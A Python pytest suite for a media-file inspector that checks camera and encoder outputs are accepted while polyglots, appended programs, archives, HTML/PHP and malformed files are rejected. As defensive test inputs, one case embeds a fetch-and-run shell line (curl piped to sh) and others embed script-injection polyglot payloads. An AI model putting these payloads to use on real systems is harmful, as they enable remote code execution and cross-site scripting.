"""Pictures, recordings and films of all makers are let in where a policy allows them, and what hides in them is not."""

from __future__ import annotations

import random
from collections.abc import Callable
from pathlib import Path

import pytest

from consumer.inspection.examination import examine
from consumer.inspection.policy.policy import SHIPPED, Policy
from consumer.inspection.readers.media import bmp, mpeg_audio
from consumer.inspection.readers.seen import Seen
from consumer.inspection.readers.table import FORMATS
from consumer.model import Facts, Reason
from tests.inspection import media
from tests.inspection.files import attachment, png, program
from tests.inspection.judging import DETECTOR
from tests.inspection.media import SAMPLES, TYPES, kind
from tests.inspection.polyglots import HTML, PHP, ZIP, further_files, second_files

MESSAGING = Policy.load(Path(SHIPPED).with_name("messaging.toml"))
MORE = ("image/svg+xml", "video/x-matroska", "video/ogg")
OPENED = MESSAGING.model_copy(
    update={"types": {**MESSAGING.types, **dict.fromkeys(MORE, MESSAGING.types["image/webp"])}}
)
HOSTILE = {"a program": program(), "a ZIP archive": ZIP, "a page": HTML, "a server's page": PHP}
BEHIND = second_files() | further_files()
WORDS = b'DSC(1).jpg <b onclick=x> plt.plot(x) online="true" <script>alert(1)</script> {"a": f(1)} +49 (0) 30'
LIVE = {
    "chromium.webm",
    "ffmpeg_live.webm",
    "gstreamer_live.webm",
    "ffmpeg_frag.mp4",
    "ffmpeg_frag2.mp4",
    "gstreamer_frag.mp4",
    "ffmpeg_pipe.wav",
}
NO_END = {"mp3", "aac", "amr", "opus", "ogg", "oga", "ogv"}
"""Kinds that nothing ends, or whose end a recorder that was stopped does not write."""


def seen(data: bytes) -> Seen:
    return examine(data, DETECTOR)


def verdict(data: bytes, name: str) -> Reason | None:
    found = seen(data)
    facts = Facts(size=len(data), detected_type=found.detected_type, findings=tuple(found.findings))
    return OPENED.decide(attachment(name), facts)


@pytest.mark.parametrize("name", SAMPLES)
def test_what_people_send_is_let_in(name: str) -> None:
    assert verdict(SAMPLES[name], name) is None


@pytest.mark.parametrize("name", sorted(SAMPLES.keys() - {"ffmpeg_audio.mp4", "gstreamer.m4a"}))
def test_the_type_is_the_one_that_the_maker_named(name: str) -> None:
    assert seen(SAMPLES[name]).detected_type == TYPES[kind(name)]


def test_a_film_without_a_picture_is_a_recording_and_of_one_family_with_films() -> None:
    assert seen(SAMPLES["ffmpeg_audio.mp4"]).detected_type == "audio/mp4"
    assert seen(SAMPLES["gstreamer.m4a"]).detected_type == "video/quicktime"


def test_phones_call_a_recording_by_the_name_of_another_container() -> None:
    for name, called in (("ffmpeg.m4a", "a.aac"), ("ffmpeg_audio.mp4", "a.mp4"), ("ffmpeg.3gp", "a.mp4")):
        assert verdict(SAMPLES[name], called) is None


@pytest.mark.parametrize("name", ["ffmpeg_cover.mp3", "lame_t.mp3", "mutagen.mp3", "mutagen_ape.mp3"])
def test_recordings_that_are_put_together_are_one(name: str) -> None:
    """Chapters of a book, and a broadcast with its advertisements: each part with its own tags."""
    assert verdict(SAMPLES[name] * 3, name) is None
    assert seen(SAMPLES[name] * 3).flags == []
    assert verdict(SAMPLES[name] + SAMPLES["ffmpeg_vbr.mp3"], name) is None


def test_a_file_in_a_later_tag_is_judged_as_in_the_first_one() -> None:
    tagged = media.tag(media.frame(b"GEOB", b"\0a\0b\0c\0" + program()))
    plain = SAMPLES["ffmpeg_shine.mp3"]
    assert seen(plain + tagged + plain).has(Reason.EMBEDDED_EXECUTABLE)


def test_what_a_camera_keeps_in_boxes_is_no_film() -> None:
    raw = SAMPLES["ffmpeg_plain.mp4"].replace(b"ftypisom", b"ftypcrx ", 1)
    assert seen(raw).detected_type == "image/x-canon-cr3"


def test_every_type_has_files_of_three_makers() -> None:
    makers: dict[str, set[str]] = {}
    for name in SAMPLES:
        makers.setdefault(TYPES[kind(name)], set()).add(name.replace(".", "_").partition("_")[0])
    assert {name: known for name, known in makers.items() if len(known) < 3} == {}


def test_for_every_type_it_is_written_what_marks_its_end() -> None:
    assert {TYPES[kind(name)] for name in SAMPLES} <= {row.name for row in FORMATS if row.end}


@pytest.mark.parametrize("name", SAMPLES)
@pytest.mark.parametrize("second", HOSTILE)
def test_what_stands_behind_is_not_let_in(name: str, second: str) -> None:
    assert verdict(SAMPLES[name] + HOSTILE[second], name) is not None


@pytest.mark.parametrize("second", BEHIND)
@pytest.mark.parametrize("name", ["cwebp.webp", "heifenc.heic", "lame.mp3", "sox.amr", "xiph.opus", "ffmpeg_plain.mp4"])
def test_every_second_format_behind_is_told_from_junk(name: str, second: str) -> None:
    assert verdict(SAMPLES[name] + BEHIND[second], name) is not None


@pytest.mark.parametrize("place", media.PLACES)
@pytest.mark.parametrize("second", HOSTILE)
def test_what_stands_where_nobody_looks_is_not_let_in(place: str, second: str) -> None:
    assert verdict(media.PLACES[place](HOSTILE[second]), f"a.{place.partition(',')[0]}") is not None


@pytest.mark.parametrize("place", media.PLACES)
def test_what_makers_keep_for_themselves_is_let_in(place: str) -> None:
    for hidden in (bytes(200), random.Random(place).randbytes(200), b"Camera 7 (C) Acme, firmware 1.2\n" * 9):
        assert verdict(media.PLACES[place](hidden), f"a.{place.partition(',')[0]}") is None


@pytest.mark.parametrize("place", media.TEXTS)
def test_no_word_of_a_text_rejects(place: str) -> None:
    assert verdict(media.TEXTS[place](WORDS), f"a.{place.partition(',')[0]}") is None


@pytest.mark.parametrize("place", media.TEXTS)
def test_a_text_that_a_web_server_runs_is_not_let_in(place: str) -> None:
    assert verdict(media.TEXTS[place](b"x " + PHP), f"a.{place.partition(',')[0]}") is Reason.SECOND_FORMAT


@pytest.mark.parametrize("how", media.encrypted())
def test_what_needs_a_key_is_told(how: str) -> None:
    assert verdict(media.encrypted()[how], f"a.{how.partition(',')[0].partition(' ')[0]}") is Reason.ENCRYPTED


@pytest.mark.parametrize("what", media.headers())
def test_a_header_and_no_more_is_broken(what: str) -> None:
    assert verdict(media.headers()[what], f"a.{what.partition(',')[0]}") is Reason.MALFORMED


def cuts(data: bytes) -> list[bytes]:
    return [data[: len(data) * part // 64] for part in range(1, 64)]


@pytest.mark.parametrize("name", sorted(name for name in SAMPLES if name not in LIVE and kind(name) not in NO_END))
def test_a_file_that_says_how_long_it_is_is_broken_when_it_is_cut(name: str) -> None:
    short = [cut for cut in cuts(SAMPLES[name]) if len(cut) < len(SAMPLES[name]) - bmp.LEFT_OUT]
    assert {verdict(cut, name) for cut in short} <= {
        Reason.MALFORMED, Reason.CONTENT_NOT_ALLOWED, Reason.TYPE_MISMATCH,
    }  # fmt: skip


@pytest.mark.parametrize("name", sorted(name for name in SAMPLES if name in LIVE or kind(name) in NO_END))
def test_a_recording_that_stopped_is_let_in_from_its_first_sound_on(name: str) -> None:
    verdicts = [verdict(cut, name) for cut in cuts(SAMPLES[name])]
    if kind(name).startswith("o") and SAMPLES[name].count(b"OggS") < 4:
        assert set(verdicts) == {Reason.MALFORMED}, "all of its sound is in one page"
        return
    first = verdicts.index(None)
    assert Reason.SECOND_FORMAT not in verdicts
    refused = [found for found in verdicts[first:] if found is not None]
    few = kind(name) in ("mp3", "aac") and len(refused) <= 16  # cut between two of its first frames it is whole
    assert kind(name) == "mp4" or few or not refused, "only the index of a fragment is written at once"


def test_half_a_last_frame_is_a_recording_that_stopped() -> None:
    for name in ("lame.mp3", "ffmpeg_shine.mp3", "ffmpeg.aac", "sox.amr"):
        found = seen(SAMPLES[name][:-9])
        assert found.findings == []
        assert "incomplete" in found.flags


@pytest.mark.parametrize("size", [0, 0x7FFFF000, 0x80000000, 0xFFFFFFFF])
def test_a_wave_that_does_not_know_its_length_ends_where_the_file_does(size: int) -> None:
    wave = SAMPLES["python.wav"]
    place = wave.index(b"data") + 4
    unknown = wave[:4] + size.to_bytes(4, "little") + wave[8:place] + size.to_bytes(4, "little") + wave[place + 4 :]
    assert verdict(unknown, "a.wav") is None
    assert seen(unknown).flags == ["incomplete"]


def test_a_voice_in_wideband_is_let_in_by_the_name_that_phones_give_it() -> None:
    voice = b"#!AMR-WB\n" + (b"\x14" + bytes(range(36))) * 50
    for name in ("a.amr", "a.awb"):
        assert verdict(voice, name) is None


def test_pages_that_are_written_one_behind_the_other_are_pictures() -> None:
    """As Ghostscript does where the name of the file has no number in it."""
    page = media.bmp(pixels=bytes(range(192)))
    for further in (page, media.tiff(), bytes(7) + page + page):
        assert verdict(page + further, "a.bmp") is None
        assert seen(page + further).has(Reason.TRAILING_DATA)
        assert verdict(page + further + ZIP, "a.bmp") is Reason.SECOND_FORMAT
        assert verdict(page + further + program(), "a.bmp") is Reason.SECOND_FORMAT


def test_a_part_for_tags_that_holds_no_whole_one_is_passed_over() -> None:
    long = media.tag(media.frame(b"APIC", b"\0image/png\0\3\0" + png()))
    assert verdict(with_chunk(b"ID3 ", long), "a.wav") is None
    longer = long[:6] + b"\0\x49\x6b\x3b" + long[10:]
    assert verdict(with_chunk(b"ID3 ", longer + bytes(200)), "a.wav") is None
    for content in (ZIP, program()):
        assert verdict(with_chunk(b"ID3 ", longer + content), "a.wav") is Reason.SECOND_FORMAT
    assert verdict(with_chunk(b"ID3 ", b""), "a.wav") is None
    assert verdict(with_chunk(b"id3 ", bytes(16)), "a.wav") is None
    assert verdict(with_chunk(b"ID3 ", program()), "a.wav") is Reason.SECOND_FORMAT


def with_chunk(kind: bytes, content: bytes) -> bytes:
    return media.riff(b"WAVE", media.chunks_of(SAMPLES["python.wav"]), media.riff_chunk(kind, content))


def test_what_is_attached_to_a_film_is_told_or_not_let_in() -> None:
    font = b"\0\1\0\0\0\x0a\0\x80\0\3\0\x20" + bytes(200)
    assert verdict(media.webm(media.attachment(b"serif.ttf", font)), "a.webm") is None
    assert seen(media.webm(media.attachment(b"serif.ttf", font))).has(Reason.EMBEDDED_FILES)
    for name, content in ((b"a.png", program()), (b"a.exe", b"words of no harm"), (b"a.htm", HTML)):
        assert verdict(media.webm(media.attachment(name, content)), "a.webm") is not None


@pytest.mark.parametrize(
    ("name", "size_at"), [("ffmpeg.aac", mpeg_audio.adts_size), ("ffmpeg_shine.mp3", mpeg_audio.mpeg_size)]
)
def test_the_click_of_a_key_is_a_recording_if_its_few_frames_are_all_that_there_is(
    name: str, size_at: Callable[[bytes, int], int]
) -> None:
    sound = SAMPLES[name]
    ends = [sound.index(b"\xff")]
    for _ in range(5):
        ends.append(ends[-1] + size_at(sound, ends[-1]))
    few = [verdict(sound[ends[0] : ends[count]], f"a.{kind(name)}") for count in range(1, 5)]
    assert few == [Reason.MALFORMED, None, None, None]
    for more in (-1, 3):
        assert verdict(sound[ends[0] : ends[3] + more], f"a.{kind(name)}") is Reason.MALFORMED, "players open none such"
    assert verdict(sound[ends[0] : ends[2]] + bytes(9), f"a.{kind(name)}") is not None


@pytest.mark.parametrize("zeros", [1, 4, 418, 4096, 60_000])
@pytest.mark.parametrize("name", sorted(name for name in SAMPLES if kind(name) in ("mp3", "aac")))
def test_sound_behind_zeros_is_what_players_make_of_it(name: str, zeros: int) -> None:
    assert verdict(bytes(zeros) + SAMPLES[name], name) is None
    assert seen(bytes(zeros) + SAMPLES[name]).detected_type == TYPES[kind(name)]
    assert verdict(bytes(zeros) + SAMPLES[name] + ZIP, name) is not None


@pytest.mark.parametrize(
    "behind", [b"", b"\xff\xfb\x90\x64", b"\xff\xfb\x90\x64" + bytes(500), b"\xff\xf1" * 40, b"words " * 90]
)
def test_zeros_before_anything_else_are_no_sound(behind: bytes) -> None:
    assert verdict(bytes(418) + behind, "a.mp3") is not None


def test_a_cover_is_a_picture_and_a_program_for_a_cover_is_not() -> None:
    cover = b"\0image/png\0\3\0"
    assert seen(SAMPLES["ffmpeg_cover.mp3"]).findings == []
    fake = media.tag(media.frame(b"APIC", cover + program())) + SAMPLES["lame.mp3"]
    assert verdict(fake, "a.mp3") is not None


def test_a_film_that_is_elsewhere_is_not_let_in() -> None:
    film = SAMPLES["ffmpeg_plain.mp4"]
    place = film.index(b"url \0\0\0\1")
    assert verdict(film[: place + 7] + b"\0" + film[place + 8 :], "a.mp4") is Reason.EXTERNAL_REFERENCE


def test_a_profile_of_colors_that_is_elsewhere_is_not_let_in() -> None:
    header = bytearray(124)
    header[0:16] = (124).to_bytes(4, "little") + (8).to_bytes(4, "little") * 2 + b"\1\0\x18\0"
    header[56:60] = b"KNIL"
    assert verdict(media.bmp(header=bytes(header)), "a.bmp") is Reason.EXTERNAL_REFERENCE


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.bmp", b"BM/*" + media.bmp()[4:] + b"*/=1;alert(1)"),
        ("a.webp", b"RIFF/*\0\0" + SAMPLES["cwebp.webp"][8:] + b"".ljust(0x2A2F, b" ") + b"*/=1;alert(1)"),
        ("a.amr", b"#!AMR\n" + b"$=1;alert(document.domain)/*" + bytes(60) + b"*/"),
        ("a.amr", b"#!AMR\n" + b"$(curl http://example.com/x|sh)\n" + bytes(60)),
    ],
)
def test_what_begins_as_a_script_is_not_let_in(name: str, data: bytes) -> None:
    assert verdict(data, name) is not None


def bent(name: str, *changes: tuple[bytes, bytes]) -> Reason | None:
    data = SAMPLES[name]
    for part, by in changes:
        assert data.count(part) >= 1
        data = data.replace(part, by, 1)
    return verdict(data, name)


@pytest.mark.parametrize(
    ("name", "part", "by"),
    [
        ("xiph.opus", b"OpusTags", b"OpusTegs"),
        ("ffmpeg_vorbis.ogg", b"\x05vorbis", b"\x05worbis"),
        ("cwebp.webp", b"\x9d\x01\x2a", b"\x9d\x01\x2b"),
        ("cwebp.webp", b"VP8 \xfa\x01\0\0\xb0", b"VP8 \xfa\x01\0\0\xb1"),
        ("heifenc.avif", b"ispe", b"isqe"),
        ("heifenc.avif", b"ispe\0", b"ispe\1"),
        ("heifenc.heic", b"pixi\0", b"pixi\1"),
        ("pillow_exif.heic", b"hdlr\0", b"hdlr\1"),
        ("ffmpeg.avif", b"meta\0", b"meta\1"),
        ("heifenc.heic", b"pitm\0\0\0\0\0", b"pitm\0\0\0\0\7"),
        ("avifenc.avif", b"ipma", b"ipmb"),
        ("avifenc.avif", b"av1C", b"av1D"),
        ("heifenc.heic", b"hvcC", b"hvcD"),
        ("heifenc.heic", b"\0\0hvc1", b"\0\0hvc0"),
        ("pillow_exif.heic", b"\0\0hvc1", b"\0\0hvc0"),
        ("ffmpeg_565.bmp", b"\0\xf8\0\0\xe0\7\0\0", b"\x42\xf8\0\0\xe0\7\0\0"),
        ("ffmpeg_gray.bmp", b"\1\0\x08\0\0\0\0\0", b"\1\0\0\0\0\0\0\0"),
        ("ffmpeg_anim.webp", b"VP8 \xfa", b"JUNK\xfa"),
        ("ffmpeg.m4a", b"stts", b"sttz"),
        ("gstreamer.m4a", b"stsc", b"stsk"),
        ("ffmpeg_cover.m4a", b"stco", b"stcu"),
    ],
)
def test_what_no_viewer_and_no_player_opens_is_broken(name: str, part: bytes, by: bytes) -> None:
    assert bent(name) is None
    assert bent(name, (part, by)) is Reason.MALFORMED


def _in_the_item(name: str, at: int, by: bytes) -> bytes:
    data = SAMPLES[name]
    place = data.index(b"mdat") + 4 + at
    return data[:place] + by + data[place + len(by) :]


@pytest.mark.parametrize(
    ("name", "at", "by"),
    [
        pytest.param("heifenc.heic", 0, b"\0\0\xff", id="HEVC, a part longer than the whole"),
        pytest.param("heifenc.heic", 0, bytes(4), id="HEVC, a part of nothing"),
        pytest.param("heifenc.heic", 4, b"\xff", id="HEVC, a forbidden bit"),
        pytest.param("heifenc.heic", 4, b"\x42", id="HEVC, nothing that draws"),
        pytest.param("avifenc.avif", 1, b"\xff\x7f", id="AV1, a part longer than the whole"),
        pytest.param("avifenc.avif", 1, b"\xff" * 9, id="AV1, a length without an end"),
        pytest.param("avifenc.avif", 0, b"\x92", id="AV1, a forbidden bit"),
        pytest.param("avifenc.avif", 0, b"\x78", id="AV1, nothing that draws"),
    ],
)
def test_a_picture_whose_parts_do_not_fit_into_it_is_broken(name: str, at: int, by: bytes) -> None:
    assert verdict(SAMPLES[name], name) is None
    assert verdict(_in_the_item(name, at, by), name) is Reason.MALFORMED


def test_a_recording_may_begin_with_zeros_and_the_rest_of_a_frame() -> None:
    rest = b"\x40" + bytes(11) + b"\x95\xd0\xdd" * 60
    sound = 20 * SAMPLES["ffmpeg_shine.mp3"][45:]
    sound = sound[sound.index(b"\xff") :]
    assert verdict(bytes(211) + rest + sound, "a.mp3") is None
    assert verdict(bytes(16) + rest + sound, "a.mp3") is not None
    assert verdict(bytes(211) + 30 * rest + sound, "a.mp3") is not None
    assert verdict(bytes(211) + rest + sound + ZIP, "a.mp3") is Reason.SECOND_FORMAT
    assert verdict(bytes(211) + rest + b"\xff\xfb\x90\x64" + bytes(50_000), "a.mp3") is not None


def test_a_recording_may_have_the_tags_of_several_programs_before_it() -> None:
    tags = media.tag(media.frame(b"TIT2", b"\0One")) + media.tag(media.frame(b"PRIV", b"two\0" + bytes(70_000)))
    assert verdict(tags + SAMPLES["ffmpeg_shine.mp3"], "a.mp3") is None
    assert verdict(tags + SAMPLES["ffmpeg.aac"], "a.aac") is None
    assert verdict(tags, "a.mp3") is Reason.MALFORMED


def test_a_picture_is_drawn_whatever_is_wrong_with_what_its_items_have_to_do_with_each_other() -> None:
    for name in ("heifenc.heic", "pillow_exif.heic"):
        data = SAMPLES[name]
        at = data.index(b"iref") + 8
        assert verdict(data[:at] + b"\xff" + data[at + 1 :], name) is None


def test_a_film_plays_as_long_as_one_of_its_tracks_does() -> None:
    assert bent("ffmpeg_plain.mp4", (b"stsc", b"stsk")) is None


def test_flac_in_ogg_says_how_many_headers_it_has() -> None:
    first = b"\x7fFLAC\1\0\0\2fLaC" + b"\0\0\0\x22" + bytes(34)
    headers = media.ogg_page(first, 1, 2) + media.ogg_page(b"\4\0\0\x20" + bytes(32), 1, 0, 1)
    last = media.ogg_page(b"\x81\0\0\x20" + bytes(32), 1, 0, 2)
    assert verdict(headers, "a.oga") is Reason.MALFORMED
    assert verdict(headers + last, "a.oga") is Reason.MALFORMED
    assert verdict(headers + last + media.ogg_page(b"\xff\xf8" + bytes(60), 1, 4, 3), "a.oga") is None


@pytest.mark.parametrize(
    ("tag", "row"),
    [
        pytest.param(258, (3, 1, 0), id="no bits"),
        pytest.param(258, (3, 1, 106), id="bits that no sample has"),
        pytest.param(258, (3, 2, 8 | 9 << 16), id="samples of different bits"),
        pytest.param(258, (99, 1, 8), id="bits that are no number"),
        pytest.param(277, (3, 1, 0), id="no samples"),
        pytest.param(277, (11, 1, 1), id="samples that are no number"),
        pytest.param(277, (3, 1, 121), id="more pixels than there are bytes for"),
        pytest.param(259, (3, 1, 236), id="an unknown compression"),
        pytest.param(259, (3, 1, 0), id="no compression and not said so"),
        pytest.param(257, (4, 1, 999), id="more rows than there are bytes for"),
        pytest.param(256, (4, 1, 0), id="no width"),
        pytest.param(257, (11, 1, 8), id="a height that is no number"),
    ],
)
def test_a_tiff_whose_first_page_nobody_draws_is_broken(tag: int, row: tuple[int, int, int]) -> None:
    two = 277 if tag == 258 else 0
    other = {two: (3, 1, 2), 257: (3, 1, 4)} if two else {}
    assert verdict(media.tiff(changed=other), "a.tiff") is None
    assert verdict(media.tiff(changed={**other, tag: row}), "a.tiff") is Reason.MALFORMED


@pytest.mark.parametrize(
    "changed",
    [
        pytest.param({258: (3, 2, 8 | 1 << 16)}, id="more bits than samples"),
        pytest.param({277: (3, 1, 2), 257: (3, 1, 4)}, id="bits said once for all samples"),
        pytest.param({258: (1, 1, 8), 259: (4, 1, 1), 277: (1, 1, 1)}, id="numbers of another size"),
        pytest.param({258: (8, 1, 8), 256: (9, 1, 8)}, id="numbers with a sign"),
        pytest.param({284: (3, 1, 0), 278: (4, 1, 2**32 - 1)}, id="rows and planes that mean nothing"),
        pytest.param({259: (3, 1, 34712)}, id="a compression that few know"),
        pytest.param({257: (3, 1, 999), 273: (4, 1, 0), 279: (4, 1, 0)}, id="a map's empty part"),
        pytest.param({257: (3, 1, 12), 262: (3, 1, 6)}, id="less color than light"),
    ],
)
def test_a_tiff_with_odd_numbers_that_viewers_draw_is_let_in(changed: dict[int, tuple[int, int, int]]) -> None:
    assert verdict(media.tiff(changed=changed), "a.tiff") is None


def test_a_picture_that_is_not_named_is_any_that_is_there() -> None:
    assert bent("avifenc.avif", (b"pitm", b"free")) is None


@pytest.mark.parametrize("seed", range(6))
def test_nothing_that_is_bent_makes_an_examination_fail(seed: int) -> None:
    chance = random.Random(seed)
    for data in SAMPLES.values():
        bent = bytearray(data)
        for _ in range(chance.choice((1, 2, 8))):
            place = int(len(bent) * chance.random() ** 2)
            bent[place : place + 4] = chance.choice((b"\xff" * 4, bytes(4), b"\0\0\0\1", chance.randbytes(4)))
        assert seen(bytes(bent)).detected_type
